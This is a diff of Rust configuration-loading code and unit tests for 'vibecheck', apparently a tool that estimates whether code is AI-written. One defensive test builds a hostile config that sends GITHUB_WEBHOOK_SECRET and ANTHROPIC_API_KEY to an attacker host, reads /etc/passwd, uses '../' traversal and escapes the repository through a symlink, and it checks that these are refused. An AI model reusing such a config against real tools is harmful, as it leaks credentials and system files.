+            settings.push(format!("calibration={digest}"));
+        }
+        if self.bands != Bands::default() {
+            settings.push(format!("calibration.bands={},{}", self.bands.assisted_at, self.bands.generated_at));
+        }
+        settings.extend(self.policy.severity.cache_setting());
+        settings
+    }
+
+    fn load_from_root(root: PathBuf, profile: Option<&str>) -> Self {
         let cfg_path = root.join(".vibecheck");
-        let (section, heuristics, cache) = if cfg_path.is_file() {
-            std::fs::read_to_string(&cfg_path)
-                .ok()
-                .and_then(|s| toml::from_str::<ConfigFile>(&s).ok())
-                .map(|f| (f.ignore, f.heuristics, f.cache))
-                .unwrap_or_else(|| {
-                    eprintln!("vibecheck: warning: failed to parse .vibecheck; using defaults");
-                    (IgnoreSection::default(), std::collections::HashMap::new(), CacheSection::default())
-                })
+        let (file, failure) = if cfg_path.is_file() {
+            let parsed = std::fs::read_to_string(&cfg_path)
+                .map_err(anyhow::Error::from)
+                .and_then(|s| toml::from_str::<ConfigFile>(&s).map_err(anyhow::Error::from));
+            match parsed {
+                Ok(file) => (file, None),
+                Err(e) => (ConfigFile::default(), Some(format!("failed to parse .vibecheck; using defaults: {e}"))),
+            }
         } else {
-            (IgnoreSection::default(), std::collections::HashMap::new(), CacheSection::default())
+            (ConfigFile::default(), None)
         };
-        Self::from_section(root, section, heuristics, cache)
+        let mut config = Self::from_section(root, file, profile);
+        config.warnings.splice(0..0, failure);
+        config
     }
 
-    fn from_section(
-        root: PathBuf,
-        section: IgnoreSection,
-        heuristics: std::collections::HashMap<String, f64>,
-        cache: CacheSection,
-    ) -> Self {
-        let combined = build_combined(&root, &section.patterns, section.use_gitignore);
-        let extra = build_extra(&root, &section.patterns);
+    /// `profile`, when set, replaces `[policy] profile`.
+    fn from_section(root: PathBuf, file: ConfigFile, profile: Option<&str>) -> Self {
+        let ConfigFile { ignore: section, mut heuristics, weights, classifier, calibration, cache, filler, hedging, verbosity, decoration, providers, perplexity, stylometry, notify, policy, severity, tests } = file;
+        let mut warnings = Vec::new();
+        if let Some(weights_file) = weights.file {
+            let path = root.join(weights_file);
+            match load_weights(&path) {
+                Ok(tuned) => {
+                    for (id, weight) in tuned {
+                        heuristics.entry(id).or_insert(weight);
+                    }
+                }
+                Err(e) => warnings.push(format!("ignoring weights file: {e}")),
+            }
+        }
+        let policy = match policy::resolve(profile, policy, severity, &mut heuristics) {
+            Ok(policy) => policy,
+            Err(e) => {
+                warnings.push(format!("ignoring [policy]: {e:#}"));
+                Policy::default()
+            }
+        };
+        // Reviewer verdicts scale the weights last, so that they apply to
+        // tuned and profile weights alike.
+        match Feedback::load(&root) {
+            Ok(feedback) => feedback.apply(&mut heuristics),
+            Err(e) => warnings.push(format!("ignoring {FEEDBACK_FILE}: {e:#}")),
+        }
+        let ensemble = classifier.ensemble;
+        let backend = classifier.backend.clone();
+        let mut classifier_unavailable = None;
+        let (classifier, classifier_digest) = match resolve_classifier(&root, classifier) {
+            Ok(Some((backend, model, digest))) => (Some((backend, model)), digest),
+            Ok(None) => (None, None),
+            Err(e) => {
+                warnings.push(format!("ignoring [classifier]: {e}"));
+                classifier_unavailable = backend;
+                (None, None)
+            }
+        };
+        if ensemble && classifier.is_none() {
+            warnings.push("ignoring [classifier] ensemble: it needs a backend besides heuristic".to_string());
+        }
+        let ensemble = ensemble && classifier.is_some();
+        let bands = Bands::new(
+            calibration.assisted_at.unwrap_or(AI_ASSISTED_AT),
+            calibration.generated_at.unwrap_or(AI_GENERATED_AT),
+        )
+        .unwrap_or_else(|e| {
+            warnings.push(format!("ignoring [calibration] cutoffs: {e}"));
+            Bands::default()
+        });
+        let calibration = resolve_calibration(&root, calibration).unwrap_or_else(|e| {
+            warnings.push(format!("ignoring [calibration]: {e:#}"));
+            None
+        });
+        let stylometry = match resolve_stylometry(&root, stylometry) {
+            Ok(stylometry) => stylometry,
+            Err(e) => {
+                warnings.push(format!("ignoring [stylometry]: {e:#}"));
+                None
+            }
+        };
+        let combined = build_combined(&root, &section.patterns, section.use_gitignore, section.use_default_excludes);
+        let extra = build_extra(&root, &section.patterns, section.use_default_excludes);
         let cache_dir = cache.dir.map(PathBuf::from);
+        let tests = match tests.separate {
+            true => TestFiles::new(&root, &tests.patterns, tests.heuristics),
+            false => TestFiles::none(),
+        };
         Self {
             root,
             use_gitignore: section.use_gitignore,
             use_global_gitignore: section.use_global_gitignore,
+            use_default_excludes: section.use_default_excludes,
+            include_generated: section.include_generated,
+            patterns: section.patterns,
             combined,
             extra,
             heuristics,
+            classifier,
+            classifier_digest,
+            classifier_unavailable,
+            ensemble,
+            calibration,
+            bands,
             cache_dir,
+            filler,
+            hedging,
+            verbosity,
+            decoration,
+            providers,
+            perplexity,
+            stylometry,
+            notify,
+            policy,
+            tests,
+            warnings,
         }
     }
 }
@@ -277,6 +1061,10 @@ impl IgnoreRules for IgnoreConfig {
             .matched_path_or_any_parents(rel, path.is_dir())
             .is_ignore()
     }
+
+    fn include_generated(&self) -> bool {
+        self.include_generated
+    }
 }
 
 // ---------------------------------------------------------------------------
@@ -284,7 +1072,8 @@ impl IgnoreRules for IgnoreConfig {
 // ---------------------------------------------------------------------------
 
 /// Walk upward from `start` (normalised to a directory) looking for a
-/// `.vibecheck` file or a `.git` directory.  Returns the first match, or
+/// `.vibecheck` or `.vibecheckignore` file or a `.git` directory.  Returns
+/// the first match, or
 /// `start` itself if neither is found before the filesystem root.
 fn find_config_root(start: &Path) -> PathBuf {
     let dir = if start.is_file() {
@@ -295,7 +1084,10 @@ fn find_config_root(start: &Path) -> PathBuf {
 
     let mut current = dir;
     loop {
-        if current.join(".vibecheck").is_file() || current.join(".git").is_dir() {
+        if current.join(".vibecheck").is_file()
+            || current.join(IGNORE_FILE_NAME).is_file()
+            || current.join(".git").is_dir()
+        {
             return current.to_path_buf();
         }
         match current.parent() {
@@ -309,29 +1101,47 @@ fn find_config_root(start: &Path) -> PathBuf {
 // Matcher builders
 // ---------------------------------------------------------------------------
 
-/// Build a `Gitignore` matcher that combines the root `.gitignore` (when
-/// `use_gitignore` is `true`) with the extra patterns from `.vibecheck`.
-fn build_combined(root: &Path, patterns: &[String], use_gitignore: bool) -> Gitignore {
+/// Build a `Gitignore` matcher that combines the default excludes, the root
+/// `.gitignore` (when `use_gitignore` is `true`), `.vibecheckignore` and the
+/// extra patterns, in that order of precedence.
+fn build_combined(root: &Path, patterns: &[String], use_gitignore: bool, use_defaults: bool) -> Gitignore {
     let mut b = GitignoreBuilder::new(root);
+    add_defaults(&mut b, use_defaults);
     if use_gitignore {
         let gi = root.join(".gitignore");
         if gi.is_file() {
             let _ = b.add(gi);
         }
     }
-    for p in patterns {
-        let _ = b.add_line(None, p);
-    }
+    add_vibecheck_rules(&mut b, root, patterns);
     b.build().unwrap_or(Gitignore::empty())
 }
 
-/// Build a `Gitignore` matcher for the extra patterns only.
-fn build_extra(root: &Path, patterns: &[String]) -> Gitignore {
+/// Build a `Gitignore` matcher for everything but `.gitignore`.
+fn build_extra(root: &Path, patterns: &[String], use_defaults: bool) -> Gitignore {
     let mut b = GitignoreBuilder::new(root);
+    add_defaults(&mut b, use_defaults);
+    add_vibecheck_rules(&mut b, root, patterns);
+    b.build().unwrap_or(Gitignore::empty())
+}
+
+fn add_defaults(b: &mut GitignoreBuilder, use_defaults: bool) {
+    if use_defaults {
+        for p in DEFAULT_EXCLUDES {
+            let _ = b.add_line(None, p);
+        }
+    }
+}
+
+/// `.vibecheckignore` in `root`, then `patterns`.
+fn add_vibecheck_rules(b: &mut GitignoreBuilder, root: &Path, patterns: &[String]) {
+    let file = root.join(IGNORE_FILE_NAME);
+    if file.is_file() {
+        let _ = b.add(file);
+    }
     for p in patterns {
         let _ = b.add_line(None, p);
     }
-    b.build().unwrap_or(Gitignore::empty())
 }
 
 // ---------------------------------------------------------------------------
@@ -386,6 +1196,15 @@ mod tests {
         assert!(!cfg.is_ignored(&dir.path().join("src/main.rs")));
     }
 
+    #[test]
+    fn ignore_config_include_generated_defaults_off() {
+        let dir = tempfile::tempdir().unwrap();
+        assert!(!IgnoreConfig::load(dir.path()).include_generated());
+        std::fs::write(dir.path().join(".vibecheck"), "[ignore]\ninclude_generated = true\n").unwrap();
+        assert!(IgnoreConfig::load(dir.path()).include_generated());
+        assert!(AllowAll.include_generated());
+    }
+
     #[test]
     fn ignore_config_from_file_error_on_bad_toml() {
         let dir = tempfile::tempdir().unwrap();
@@ -394,6 +1213,15 @@ mod tests {
         assert!(IgnoreConfig::from_file(&bad).is_err());
     }
 
+    #[test]
+    fn ignore_config_load_warns_on_bad_toml() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "not valid toml ][[[").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.warnings().len(), 1);
+        assert!(cfg.warnings()[0].starts_with("failed to parse .vibecheck; using defaults"));
+    }
+
     #[test]
     fn ignore_config_from_file_valid() {
         let dir = tempfile::tempdir().unwrap();
@@ -425,6 +1253,47 @@ mod tests {
         assert_eq!(root, dir.path());
     }
 
+    #[test]
+    fn default_excludes_apply_and_can_be_negated_or_disabled() {
+        let dir = tempfile::tempdir().unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.is_ignored(&dir.path().join("vendor/github.com/x/y.go")));
+        assert!(cfg.is_ignored(&dir.path().join("pkg/testdata/input.go")));
+        assert!(cfg.is_extra_ignored(&dir.path().join("third_party/lib.py")));
+
+        std::fs::write(dir.path().join(".vibecheck"), "[ignore]\npatterns = [\"!vendor/\"]\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(!cfg.is_ignored(&dir.path().join("vendor/lib.rs")));
+        assert!(cfg.is_ignored(&dir.path().join("testdata/a.go")));
+
+        std::fs::write(dir.path().join(".vibecheck"), "[ignore]\nuse_default_excludes = false\n").unwrap();
+        assert!(!IgnoreConfig::load(dir.path()).is_ignored(&dir.path().join("testdata/a.go")));
+    }
+
+    #[test]
+    fn vibecheckignore_file_is_read_and_marks_config_root() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(IGNORE_FILE_NAME), "gen/\n*.pb.go\n!keep.pb.go\n").unwrap();
+        let sub = dir.path().join("src/deep");
+        std::fs::create_dir_all(&sub).unwrap();
+        assert_eq!(find_config_root(&sub), dir.path());
+        let cfg = IgnoreConfig::load(&sub);
+        assert!(cfg.is_ignored(&dir.path().join("gen/api.rs")));
+        assert!(cfg.is_ignored(&dir.path().join("src/api.pb.go")));
+        assert!(!cfg.is_ignored(&dir.path().join("src/keep.pb.go")));
+        assert!(!cfg.is_ignored(&dir.path().join("src/main.rs")));
+    }
+
+    #[test]
+    fn excludes_take_precedence_over_config() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(IGNORE_FILE_NAME), "*.js\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path()).with_excludes(&["legacy/".into(), "!app.js".into()]);
+        assert!(cfg.is_ignored(&dir.path().join("legacy/old.rs")));
+        assert!(cfg.is_ignored(&dir.path().join("lib.js")));
+        assert!(!cfg.is_ignored(&dir.path().join("app.js")));
+    }
+
     #[test]
     fn cache_dir_none_when_not_configured() {
         let dir = tempfile::tempdir().unwrap();
@@ -458,4 +1327,350 @@ mod tests {
         let cfg = IgnoreConfig::load(dir.path());
         assert!(cfg.cache_dir().is_none());
     }
+
+    #[test]
+    fn filler_section_configures_phrases() {
+        use crate::analyzers::Analyzer;
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[filler]\nlocales = [\"de\"]\nphrases = [\"as you can see\"]\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.analysis_settings().len(), 2);
+        let source = "// Lass uns sortieren.\n// As you can see, done.\n// Let's go.\n";
+        let signals = cfg.filler_analyzer().analyze(source);
+        assert_eq!(signals[0].lines, vec![1, 2], "`en` is replaced, not extended");
+    }
+
+    #[test]
+    fn hedging_section_configures_lexicon_and_threshold() {
+        use crate::analyzers::Analyzer;
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[hedging]\nphrases = [\"rest assured\"]\nmin_lines = 1\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.analysis_settings().len(), 2);
+        let signals = cfg.hedging_analyzer().analyze("// Rest assured, it works.\n");
+        assert_eq!(signals[0].lines, vec![1]);
+    }
+
+    #[test]
+    fn verbosity_thresholds_enter_cache_key() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[verbosity]\nexported = 0.8\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.analysis_settings(), vec!["verbosity.exported=0.8".to_string()]);
+    }
+
+    #[test]
+    fn decoration_allowlist_configures_detector() {
+        use crate::analyzers::Analyzer;
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[decoration]\nallow = [\"→\", \"✓\"]\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.analysis_settings(), vec!["decoration.allow=→✓".to_string()]);
+        assert!(cfg.decoration_analyzer().analyze("// a → b\n// ✓ done\n").is_empty());
+    }
+
+    #[test]
+    fn weights_file_is_merged_under_heuristics_table() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("tuned.toml"),
+            "[heuristics]\n\"rust.comments.minimal\" = 1.74\n\"rust.naming.medium_descriptive\" = 0.88\n",
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[weights]\nfile = \"tuned.toml\"\n\n[heuristics]\n\"rust.comments.minimal\" = 2.0\n",
+        )
+        .unwrap();
+        let map = IgnoreConfig::load(dir.path()).heuristics_map();
+        assert_eq!(map["rust.comments.minimal"], 2.0);
+        assert_eq!(map["rust.naming.medium_descriptive"], 0.88);
+    }
+
+    #[test]
+    fn tests_section_configures_test_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let fake = dir.path().join("internal/fakes/store.go");
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.test_files().is_test(&dir.path().join("store_test.go")));
+        assert!(!cfg.test_files().is_test(&fake));
+
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[tests]\npatterns = [\"internal/fakes/\"]\n\n[tests.heuristics]\n\"go_cst.shape.templated\" = 0.4\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.test_files().is_test(&fake));
+        assert_eq!(cfg.test_files().heuristics_map()["go_cst.shape.templated"], 0.4);
+        assert!(cfg.heuristics_map().is_empty(), "test weights stay out of the project's");
+
+        std::fs::write(dir.path().join(".vibecheck"), "[tests]\nseparate = false\n").unwrap();
+        assert!(!IgnoreConfig::load(dir.path()).test_files().is_test(&dir.path().join("store_test.go")));
+    }
+
+    #[test]
+    fn policy_profile_sets_weights_and_severity_grading() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[policy]\nprofile = \"lenient\"\n\n[severity]\n\"rust.comments.step_numbered\" = \"error\"\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        let policy = cfg.policy();
+        assert_eq!(policy.profile.as_deref(), Some("lenient"));
+        assert_eq!(policy.fail_over, Some(0.9));
+        assert_eq!(policy.severity.rules["rust.comments.step_numbered"], Severity::Error);
+        assert_eq!(cfg.heuristics_map()["rust.structure.sorted_imports"], 0.0);
+        assert_eq!(
+            cfg.analysis_settings(),
+            vec!["severity=1.5,2.5;rust.comments.step_numbered=error".to_string()]
+        );
+
+        std::fs::write(dir.path().join(".vibecheck"), "[policy]\nprofile = \"paranoid\"\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.policy().profile.is_none());
+        assert!(cfg.analysis_settings().is_empty());
+    }
+
+    #[test]
+    fn explicit_profile_overrides_the_configured_one() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[policy]\nprofile = \"lenient\"\n").unwrap();
+        let cfg = IgnoreConfig::load_with_profile(dir.path(), Some("strict"));
+        assert_eq!(cfg.policy().profile.as_deref(), Some("strict"));
+        let cfg = IgnoreConfig::from_file_with_profile(&dir.path().join(".vibecheck"), None).unwrap();
+        assert_eq!(cfg.policy().profile.as_deref(), Some("lenient"));
+        let cfg = IgnoreConfig::load_untrusted_with_profile(dir.path(), Some("balanced")).unwrap();
+        assert_eq!(cfg.policy().profile.as_deref(), Some("balanced"));
+    }
+
+    #[test]
+    fn classifier_section_selects_backend_and_enters_cache_key() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("model.toml"), "[intercepts]\nhuman = 1.0\n").unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[classifier]\nbackend = \"logistic\"\nmodel = \"model.toml\"\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.classifier().name(), "logistic");
+        let settings = cfg.analysis_settings();
+        assert_eq!(settings[0], "classifier.backend=logistic");
+        assert!(settings[1].starts_with("classifier.model="));
+        assert!(cfg.ensemble().is_empty());
+
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[classifier]\nbackend = \"logistic\"\nmodel = \"model.toml\"\nensemble = true\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        let members: Vec<String> = cfg.ensemble().iter().map(|c| c.name().to_string()).collect();
+        assert_eq!(members, ["heuristic"]);
+        assert_eq!(cfg.analysis_settings()[2], "classifier.ensemble=heuristic");
+
+        // A backend that cannot load falls back to the default, and says so.
+        std::fs::write(dir.path().join(".vibecheck"), "[classifier]\nbackend = \"logistic\"\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.classifier().name(), "heuristic");
+        assert_eq!(cfg.degraded(), [Capability::Classifier]);
+        assert_eq!(cfg.analysis_settings(), ["classifier.unavailable=logistic"]);
+
+        // An ensemble of the weighted sum with itself is no ensemble.
+        std::fs::write(dir.path().join(".vibecheck"), "[classifier]\nensemble = true\n").unwrap();
+        assert!(IgnoreConfig::load(dir.path()).ensemble().is_empty());
+    }
+
+    #[test]
+    fn perplexity_is_off_unless_enabled() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[perplexity]\nmodel = \"codegen\"\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.perplexity_analyzer().is_none());
+        assert!(cfg.analysis_settings().is_empty());
+
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[perplexity]\nenabled = true\nbase_url = \"http://localhost:8000/v1\"\nlow = 2.0\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.analysis_settings(), vec!["perplexity=davinci-002@http://localhost:8000/v1,2,6".to_string()]);
+        assert_eq!(cfg.perplexity_analyzer().is_some(), cfg!(feature = "perplexity"));
+    }
+
+    #[test]
+    fn calibration_file_is_loaded_and_enters_cache_key() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[calibration]\nfile = \"missing.toml\"\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.calibration(), Calibration::default());
+        assert!(cfg.analysis_settings().is_empty());
+
+        std::fs::write(
+            dir.path().join("calibration.toml"),
+            "[fallback]\na = 5.0\nb = -2.0\n\n[language.go]\na = 4.0\nb = -3.0\n",
+        )
+        .unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[calibration]\nfile = \"calibration.toml\"\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        let calibration = cfg.calibration();
+        assert_eq!(calibration.model(Some("go")).a, 4.0);
+        assert_eq!(calibration.model(Some("python")).a, 5.0);
+        let settings = cfg.analysis_settings();
+        assert!(settings.len() == 1 && settings[0].starts_with("calibration="), "{settings:?}");
+    }
+
+    #[test]
+    fn authorship_cutoffs_are_validated_and_enter_cache_key() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[calibration]\nassisted_at = 0.5\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.calibration().bands, Bands::new(0.5, AI_GENERATED_AT).unwrap());
+        assert_eq!(cfg.analysis_settings(), vec!["calibration.bands=0.5,0.7".to_string()]);
+
+        std::fs::write(dir.path().join(".vibecheck"), "[calibration]\nassisted_at = 0.9\ngenerated_at = 0.6\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.calibration().bands, Bands::default());
+        assert!(cfg.analysis_settings().is_empty());
+    }
+
+    #[test]
+    fn review_feedback_scales_configured_weights() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[heuristics]\n\"custom.rule\" = 2.0\n").unwrap();
+        let rules = vec!["custom.rule".to_string(), "rust.errors.zero_unwrap".to_string()];
+        Feedback::from_reviews([crate::feedback::Review { rules: &rules, false_positive: true }])
+            .save(dir.path())
+            .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        let weights = cfg.heuristics_map();
+        assert!((weights["custom.rule"] - 2.0 * 0.67).abs() < 1e-9, "{weights:?}");
+        assert!(weights.contains_key("rust.errors.zero_unwrap"));
+
+        assert!(cfg.warnings().is_empty());
+
+        std::fs::write(dir.path().join(FEEDBACK_FILE), "not toml [").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert_eq!(cfg.heuristics_map()["custom.rule"], 2.0);
+        assert!(cfg.warnings()[0].starts_with("ignoring .vibecheck-feedback"), "{:?}", cfg.warnings());
+    }
+
+    #[test]
+    fn stylometry_loads_its_model_relative_to_the_root() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[stylometry]\nmodel = \"missing.toml\"\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.stylometry_analyzer().is_none());
+        assert!(cfg.analysis_settings().is_empty());
+
+        std::fs::write(dir.path().join("ngrams.toml"), "[families.human]\n\"c:foo\" = 3\n").unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[stylometry]\nmodel = \"ngrams.toml\"\nmargin = 0.1\n").unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        assert!(cfg.stylometry_analyzer().is_some());
+        let settings = cfg.analysis_settings();
+        assert!(settings.len() == 1 && settings[0].starts_with("stylometry=") && settings[0].ends_with(",0.1"), "{settings:?}");
+    }
+
+    #[test]
+    fn provider_tables_are_read_and_leave_cache_key_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[providers.copilot]\napi = \"openai\"\nmodel = \"gpt-4.1\"\napi_key_env = \"GITHUB_TOKEN\"\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        let copilot = cfg.provider("copilot").unwrap();
+        assert_eq!((copilot.api.as_deref(), copilot.model.as_deref()), (Some("openai"), Some("gpt-4.1")));
+        assert!(cfg.provider("claude").is_none());
+        assert!(cfg.analysis_settings().is_empty());
+    }
+
+    #[test]
+    fn notify_tables_are_read_in_order() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            "[[notify]]\nkind = \"slack\"\nurl_env = \"SLACK_WEBHOOK_URL\"\nmin_ai_files = 3\n\n\
+             [[notify]]\nurl = \"https://hooks.example.com/x\"\nai_probability_over = 0.9\n",
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load(dir.path());
+        let sinks = cfg.notifications();
+        assert_eq!(sinks.len(), 2);
+        assert_eq!((sinks[0].kind.as_deref(), sinks[0].min_ai_files), (Some("slack"), Some(3)));
+        assert_eq!((sinks[1].kind.as_deref(), sinks[1].ai_probability_over), (None, Some(0.9)));
+        assert!(cfg.analysis_settings().is_empty());
+    }
+
+    #[test]
+    fn untrusted_config_cannot_reach_beyond_the_repository() {
+        let outside = tempfile::tempdir().unwrap();
+        std::fs::write(outside.path().join("weights.toml"), "[heuristics]\n\"custom.rule\" = 9.0\n").unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("weights.toml"), "[heuristics]\n\"other.rule\" = 3.0\n").unwrap();
+        std::fs::write(
+            dir.path().join(".vibecheck"),
+            format!(
+                "[heuristics]\n\"custom.rule\" = 2.0\n\n\
+                 [weights]\nfile = \"weights.toml\"\n\n\
+                 [perplexity]\nenabled = true\nbase_url = \"https://attacker.example\"\napi_key_env = \"GITHUB_WEBHOOK_SECRET\"\n\n\
+                 [providers.claude]\nbase_url = \"https://attacker.example\"\napi_key_env = \"ANTHROPIC_API_KEY\"\n\n\
+                 [[notify]]\nurl = \"https://attacker.example\"\n\n\
+                 [cache]\ndir = \"/tmp/poisoned\"\n\n\
+                 [classifier]\nbackend = \"logistic\"\nmodel = \"/etc/passwd\"\n\n\
+                 [calibration]\nfile = \"../calibration.toml\"\nassisted_at = 0.4\n\n\
+                 [stylometry]\nmodel = \"{}\"\n",
+                outside.path().join("weights.toml").display()
+            ),
+        )
+        .unwrap();
+        let cfg = IgnoreConfig::load_untrusted(dir.path()).unwrap();
+        assert!(cfg.perplexity_analyzer().is_none());
+        assert!(cfg.provider("claude").is_none());
+        assert!(cfg.notifications().is_empty());
+        assert!(cfg.cache_dir().is_none());
+        assert!(cfg.stylometry_analyzer().is_none());
+        assert_eq!(cfg.analysis_settings(), vec!["calibration.bands=0.4,0.7".to_string()]);
+        let weights = cfg.heuristics_map();
+        assert_eq!((weights["custom.rule"], weights["other.rule"]), (2.0, 3.0));
+        assert_eq!(cfg.warnings().len(), 7, "{:?}", cfg.warnings());
+
+        // The same file, trusted, is taken at its word.
+        assert!(IgnoreConfig::load(dir.path()).cache_dir().is_some());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn untrusted_config_files_cannot_be_symlinks_out_of_the_repository() {
+        let outside = tempfile::tempdir().unwrap();
+        std::fs::write(outside.path().join("weights.toml"), "[heuristics]\n\"custom.rule\" = 9.0\n").unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        std::os::unix::fs::symlink(outside.path().join("weights.toml"), dir.path().join("weights.toml")).unwrap();
+        std::fs::write(dir.path().join(".vibecheck"), "[weights]\nfile = \"weights.toml\"\n").unwrap();
+        let cfg = IgnoreConfig::load_untrusted(dir.path()).unwrap();
+        assert!(cfg.heuristics_map().get("custom.rule").is_none());
+        assert!(cfg.warnings()[0].contains("leads outside the repository"), "{:?}", cfg.warnings());
+
+        let missing = tempfile::tempdir().unwrap();
+        assert!(IgnoreConfig::load_untrusted(missing.path()).unwrap().warnings().is_empty());
+    }
+
+    #[test]
+    fn filler_defaults_leave_cache_key_alone() {
+        let dir = tempfile::tempdir().unwrap();
+        assert!(IgnoreConfig::load(dir.path()).analysis_settings().is_empty());
+    }
 }